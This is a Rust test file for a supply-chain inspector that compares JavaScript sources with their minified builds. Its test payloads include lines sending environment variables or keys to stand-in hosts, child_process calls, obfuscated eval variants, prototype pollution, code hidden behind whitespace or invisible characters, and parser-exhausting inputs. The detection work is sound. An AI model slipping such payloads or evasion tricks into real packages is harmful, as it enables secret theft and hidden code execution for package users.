//! The comparison on small files: what must be found wherever it is put, and what must not.

mod payloads;

use super::*;
use crate::flag::Flag;
use std::{sync::Arc, time::Instant};

const SOURCE: &str = "export function greet(person, options) {\n  const greeting = options.formal ? 'Good day' : 'Hello there';\n  return person.name.length > 3 ? greeting + ', ' + person.name : greeting;\n}\n";
const BUILD: &str = "export function greet(e,n){const o=n.formal?\"Good day\":\"Hello there\";return e.name.length>3?o+\", \"+e.name:o}";

fn files(version: &str, all: &[(&str, &str)]) -> Files {
    let by_path = all.iter().map(|(path, text)| ((*path).to_owned(), Arc::from(text.as_bytes())));
    Files { version: version.to_owned(), by_path: by_path.collect(), ..Files::default() }
}

fn pair(source: &str, build: &str) -> Files {
    files("1.0.0", &[("dist/a.js", source), ("dist/a.min.js", build)])
}

fn flags(new: &Files, old: &Files) -> Vec<Flag> {
    compare(new, Some(old)).signs.into_iter().map(|sign| sign.flag).collect()
}

/// The flags of a build to which a payload was added.
fn with_payload(payload: &str) -> Vec<Flag> {
    flags(&pair(SOURCE, &format!("{BUILD};{payload}")), &pair(SOURCE, BUILD))
}

#[test]
fn payloads_of_many_kinds_are_powers_that_the_source_does_not_have() {
    for payload in [
        "try{require(\"child_process\").exec(\"true\")}catch(e){}",
        "eval(atob(\"MTsx\"))",
        "globalThis[\"ev\"+\"al\"](\"1\")",
        "window[\"lave\".split(\"\").reverse().join(\"\")](\"1\")",
        "[][\"filter\"][\"constructor\"](\"return 1\")()",
        "Function`return 1`()",
        "\\u0065val(\"1\")",
        "setTimeout(\"1+1\",9)",
        "Reflect.construct(Function,[\"return 1\"])()",
        "new Worker(URL.createObjectURL(new Blob([\"1\"])))",
        "for(var k in process.env)fetch(\"https://e.example/\"+k)",
        "window[(693741).toString(36)](1)",
        "WebAssembly.compile(new Uint8Array([0,97,115,109,1,0,0,0]))",
        "module.require(\"f\"+\"s\")",
        "String.prototype.replace=function(){return\"\"}",
        "var t=setTimeout;t(\"1\"+\"1\",9)",
        "(greet.fast?setInterval:0)(\"1\",9)||(0,Function)(\"1\")()",
        "!function(){var{constructor:k}=function(){};k(\"1\")()}()",
        "var k;({\"constructor\":k}=greet),k(\"1\")()",
        "new(class extends Function{})(\"1\")",
        "Object.assign(Object.getPrototypeOf({}),{constructor:1})",
        "Object.defineProperty(Object.prototype,\"then\",{get:function(){}})",
        "({}).__proto__.toString=function(){return\"\"}",
        "greet.constructor.prototype.name=1",
        "[].__proto__[\"name\"]=1",
        "var p=(0,Array.prototype);p.name=1",
        "Reflect.construct((0).constructor.constructor,[\"1\"])()",
        "process[\"bin\"+\"ding\"](\"fs\")",
        "Date.now()>2e15&&process.exit(1)",
        "for(var k in require.cache)greet(require.cache[k].exports,{})",
        "module.children.length&&greet(module.parent,{})",
    ] {
        assert!(with_payload(payload).contains(&Flag::MinifiedCapability), "{payload}");
    }
}

#[test]
fn texts_that_the_source_does_not_have_are_excess() {
    for payload in [
        "!function(){\"https://evil.example/\"}.name",
        "document.title=\"https://evil.example/\"",
        "Object.prototype.isAdmin=!0",
        "!function(){/* bG9uZyB0ZXh0IHRoYXQgaXMgcmVhZCBieSB0b1N0cmluZw== */}.name",
        "greet.name.name=/sk_live_[a-z]+/",
        "greet.length=[19,87,45,12,99,41,27,63,88,21,54,76,32,11,98,65,43]",
    ] {
        let found = with_payload(payload);
        assert!(
            found.contains(&Flag::MinifiedExcess) || found.contains(&Flag::MinifiedCapability),
            "{payload}: {found:?}"
        );
    }
}

#[test]
fn a_build_that_changes_alone_is_told_whatever_changed() {
    let flipped = BUILD.replace(".length>3", ".length<3");
    assert_eq!(flags(&pair(SOURCE, &flipped), &pair(SOURCE, BUILD)), [Flag::MinifiedAlone]);
}

#[test]
fn a_release_whose_build_follows_its_source_is_silent() {
    let source = SOURCE.replace("Hello there", "Welcome").replace("formal", "polite");
    let build = BUILD.replace("Hello there", "Welcome").replace("formal", "polite");
    assert!(flags(&pair(&source, &build), &pair(SOURCE, BUILD)).is_empty());
}

#[test]
fn a_build_made_anew_with_other_local_names_is_silent() {
    let renamed =
        BUILD.replace("(e,n)", "(r,t)").replace("e.name", "r.name").replace("n.formal", "t.formal");
    assert!(flags(&pair(SOURCE, &renamed), &pair(SOURCE, BUILD)).is_empty());
}

#[test]
fn a_new_build_is_held_against_its_source_although_there_was_none_before() {
    let payload = format!("{BUILD};fetch(\"https://e.example/\")");
    let old = files("1.0.0", &[("dist/a.js", SOURCE)]);
    assert!(flags(&pair(SOURCE, &payload), &old).contains(&Flag::MinifiedCapability));
    assert!(flags(&pair(SOURCE, BUILD), &old).is_empty());
}

#[test]
fn a_source_that_was_taken_away_still_explains_and_excuses_nothing() {
    let alone = files("1.0.0", &[("dist/a.min.js", &format!("{BUILD};eval(\"1\")"))]);
    assert!(flags(&alone, &pair(SOURCE, BUILD)).contains(&Flag::MinifiedCapability));
}

/// Another release of the minifier: all names anew, a constant folded, and nothing else said.
#[test]
fn a_build_that_another_minifier_spells_anew_is_silent_and_one_changed_by_hand_is_not() {
    let function = |at: usize, argument: &str, local: &str, bound: &str| {
        format!(
            "function {local}({argument}){{return {argument}.item{at}.size>{bound}&&{local}({argument}.item{at})}}"
        )
    };
    let build = |argument: &str, local: &str, bounds: [&str; 4]| -> String {
        let all = bounds.iter().enumerate();
        let functions =
            all.map(|(at, bound)| function(at, argument, &format!("{local}{at}"), bound));
        format!("var e=1e-6;{}", functions.collect::<String>())
    };
    let source = build("element", "check", ["1e-6", "2", "3", "4"]);
    let old = pair(&source, &build("t", "a", ["e", "2", "3", "4"]));
    let anew = pair(&source, &build("n", "o", ["1e-6", "2", "3", "4"]));
    assert_eq!(flags(&anew, &old), []);
    let by_hand = pair(&source, &build("t", "a", ["1e-6", "2", "3", "4"]));
    assert_eq!(flags(&by_hand, &old), [Flag::MinifiedAlone]);
    // New names for all, and one more thing that it says: the source would have changed, too.
    let more = build("n", "o", ["1e-6", "2", "3", "4"]).replace(".item2.size>", ".item3.size>");
    assert_eq!(flags(&pair(&source, &more), &old), [Flag::MinifiedAlone]);
}

/// Packages that are minified file by file: each build loads the builds of what its source loads.
#[test]
fn builds_may_load_the_builds_of_what_their_sources_load_and_no_others() {
    let all = |specifier: &str, built: &str| {
        files(
            "1.0.0",
            &[
                ("a.mjs", &format!("import {{ x }} from '{specifier}';\nexport const y = x;\n")),
                ("a.min.mjs", &format!("import{{x as o}}from\"{built}\";export const y=o;")),
            ],
        )
    };
    let old = all("./lib/b.mjs", "./lib/b.min.mjs");
    assert_eq!(flags(&all("./lib/c.mjs", "./lib/c.min.mjs"), &old), []);
    assert_eq!(
        flags(&all("./lib/b.mjs", "./lib/d.min.mjs"), &old),
        [Flag::MinifiedCapability, Flag::MinifiedAlone]
    );
}

/// node-ipc, 2026: appended to the `CommonJS` entry, the ES module clean.
#[test]
fn a_sibling_that_gains_a_power_alone_is_told() {
    let plain = "exports.send = function send(message) {\n  return message.trim();\n};\n";
    let module = "export function send(message) {\n  return message.trim();\n}\n";
    let old = files("9.1.5", &[("ipc.cjs", plain), ("ipc.mjs", module)]);
    let poisoned = format!("{plain}\nrequire('child_process').exec('true');\n");
    let new = files("9.1.6", &[("ipc.cjs", &poisoned), ("ipc.mjs", module)]);
    assert!(flags(&new, &old).contains(&Flag::SiblingCapability));
}

#[test]
fn a_package_that_gains_a_power_or_sends_to_a_new_host_is_told() {
    let old = files(
        "1.0.0",
        &[("index.js", "exports.send = (key) => fetch('https://api.example/', { body: key });\n")],
    );
    let hook = files(
        "1.0.1",
        &[(
            "index.js",
            "exports.send = (key) => { fetch('https://evil.example/' + key); return fetch('https://api.example/', { body: key }); };\n",
        )],
    );
    assert_eq!(flags(&hook, &old), [Flag::NewHost]);
    let shell = files(
        "1.0.1",
        &[(
            "index.js",
            "require('child_process').execSync('true');\nexports.send = (key) => fetch('https://api.example/', { body: key });\n",
        )],
    );
    assert_eq!(flags(&shell, &old), [Flag::NewCapability]);
}

#[test]
fn files_that_nobody_can_read_and_requires_of_test_data_are_told() {
    let index = "module.exports = require('./lib/a');\n";
    let old = files("1.0.0", &[("index.js", index), ("lib/a.js", "exports.a = 1;\n")]);
    let bundle = "var _0x1a2b=1;".repeat(100);
    let new = files(
        "1.0.1",
        &[("index.js", index), ("lib/a.js", "exports.a = 1;\n"), ("bundle.js", &bundle)],
    );
    assert!(flags(&new, &old).contains(&Flag::OpaqueFile));
    let data = files(
        "1.0.1",
        &[
            ("index.js", "module.exports = require('./test/data');\n"),
            ("lib/a.js", "exports.a = 1;\n"),
        ],
    );
    assert!(flags(&data, &old).contains(&Flag::OddRequire));
    let mut native = old.clone();
    native.unread.insert("build/x.node".to_owned(), 10);
    assert!(flags(&native, &old).contains(&Flag::OpaqueFile));
}

#[test]
fn code_behind_a_wall_of_spaces_and_invisible_text_is_told() {
    let old = files("1.0.0", &[("index.js", "exports.a = 1;\n")]);
    let far = files(
        "1.0.1",
        &[("index.js", &format!("exports.a = 1;{}exports.b = 2;\n", " ".repeat(900)))],
    );
    assert!(flags(&far, &old).contains(&Flag::HiddenCode));
    let invisible: String = (0..64).filter_map(|n| char::from_u32(0xe0100 + n)).collect();
    let unseen = files("1.0.1", &[("index.js", &format!("exports.a = '{invisible}';\n"))]);
    assert!(flags(&unseen, &old).contains(&Flag::HiddenCode));
}

#[test]
fn what_cannot_be_parsed_is_said_and_never_passed() {
    for hostile in
        ["[".repeat(100_000), "(a=".repeat(50_000), "function(".to_owned(), "`${".repeat(30_000)]
    {
        let inspection = compare(&pair(SOURCE, &hostile), Some(&pair(SOURCE, BUILD)));
        assert!(
            inspection.unchecked.iter().any(|(path, _)| path == "dist/a.min.js"),
            "{hostile:.9}"
        );
        assert!(inspection.signs.iter().any(|sign| sign.flag == Flag::Unchecked), "{hostile:.9}");
    }
}

/// A bound far above what it takes, so that only a lack of bounds fails.
#[test]
fn a_file_of_one_endless_line_and_hostile_nesting_come_to_an_end() {
    let started = Instant::now();
    let line = "a(1);".repeat(2 << 20);
    let huge = compare(&pair(SOURCE, &line), Some(&pair(SOURCE, BUILD)));
    assert!(!huge.unchecked.is_empty() || !huge.signs.is_empty());
    for hostile in [
        "!".repeat(3 << 20),
        "a=>".repeat(1 << 20),
        "[[]".repeat(200_000),
        "1+".repeat(100_000) + "1",
    ] {
        drop(compare(&pair(SOURCE, &hostile), Some(&pair(SOURCE, BUILD))));
    }
    assert!(started.elapsed().as_secs() < 120, "{:?}", started.elapsed());
}
